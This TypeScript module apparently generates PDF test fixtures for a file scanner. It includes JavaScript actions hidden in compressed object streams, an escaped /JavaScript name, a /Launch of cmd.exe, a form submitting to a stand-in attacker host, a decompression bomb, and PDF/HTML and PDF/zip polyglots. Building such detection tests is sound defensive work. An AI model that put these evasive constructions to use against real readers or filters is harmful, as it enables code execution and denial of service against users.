import { deflateSync } from 'node:zlib'
import { smuggled } from './pictures.ts'

type Wish = { objects?: (string | Buffer)[]; trailer?: string; head?: string; tail?: string; isCut?: boolean }

/** A page, and whatever else it is told to have. */
export function pdf({ objects = [], trailer = '', head = '%PDF-1.7\n', tail = '', isCut }: Wish = {}): Buffer {
  const plain = [
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n',
    stream('9 0 obj\n<< /Length 44 >>', Buffer.from('BT /F1 12 Tf 20 100 Td (see /JS on page 2) Tj ET')),
  ]
  const end = `trailer\n<< /Size 10 /Root 1 0 R ${trailer} >>\nstartxref\n9\n%%EOF\n`
  const parts = [head, ...plain, ...objects, ...(isCut ? [] : [end]), tail]
  return Buffer.concat(parts.map((part) => Buffer.from(part as string)))
}

function stream(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`${dictionary}\nstream\n`), data, Buffer.from('\nendstream\nendobj\n')])
}

const action = `<< /S /JavaScript /JS (app.alert\\('${smuggled}'\\)) >>`

/** Objects inside a packed stream, where a glance at the bytes does not see them. */
export const packed = (inside: string | Buffer, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
  stream(`5 0 obj\n<< ${dictionary} >>`, deflateSync(inside))

export const documents = {
  plain: () => pdf(),
  packed: () => pdf({ objects: [packed('6 0 << /Type /Font /Name /JSong >>')] }),
  packedAsAcrobatDoes: () =>
    pdf({ objects: [packed('6 0 << /Type /Font >>', '/Filter/FlateDecode/First 4/Length 30/N 1/Type/ObjStm')] }),
  packedInList: () => pdf({ objects: [packed('6 0 <<>>', '/Type /ObjStm /First 4 /Filter [ /FlateDecode ] /N 1')] }),
  script: () => pdf({ objects: [`4 0 obj\n${action}\nendobj\n`] }),
  escapedScript: () => pdf({ objects: [`4 0 obj\n${action.replace('/JavaScript', '/J#61v#61Script')}\nendobj\n`] }),
  shortScript: () => pdf({ objects: ['4 0 obj\n<< /S /Rendition2 /JS 8 0 R >>\nendobj\n'] }),
  packedScript: () => pdf({ objects: [packed(`4 0 ${action}`)] }),
  unnamedPackedScript: () => pdf({ objects: [packed(`4 0 ${action}`, '/N 1 /First 4 /Filter /FlateDecode')] }),
  hiddenPackedScript: () => pdf({ objects: [packed(`4 0 ${action}`, '/Type /ObjStm /X (obj) /Filter /FlateDecode')] }),
  endedPackedScript: () =>
    pdf({ objects: [packed(`4 0 ${action}`, '/Type /ObjStm /X (\nendstream ) /Filter /FlateDecode')] }),
  twicePacked: () => pdf({ objects: [packed('4 0 <<>>', '/Type /ObjStm /Filter /FlateDecode /N 1 /Filter /Crypt')] }),
  strangelyPacked: () => pdf({ objects: [packed('4 0 <<>>', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]')] }),
  launch: () => pdf({ objects: ['4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'] }),
  attachment: () => pdf({ objects: ['4 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nendobj\n'] }),
  form: () => pdf({ objects: ['4 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n'] }),
  encrypted: () => pdf({ trailer: '/Encrypt 8 0 R' }),
  bomb: () => pdf({ objects: [packed(Buffer.alloc(100_000_000))] }),
  brokenPacking: () =>
    pdf({ objects: [stream('5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>', Buffer.from('not packed'))] }),
  cut: () => pdf({ isCut: true }),
  alsoHtml: () => pdf({ head: `%PDF-1.7\n%<html><script>alert('${smuggled}')</script></html>\n` }),
  afterHtml: () => pdf({ head: `<html><script>1</script></html>%PDF-1.7\n` }),
  beforeZip: (zip: Buffer) => Buffer.concat([pdf(), Buffer.alloc(2_000), zip]),
}
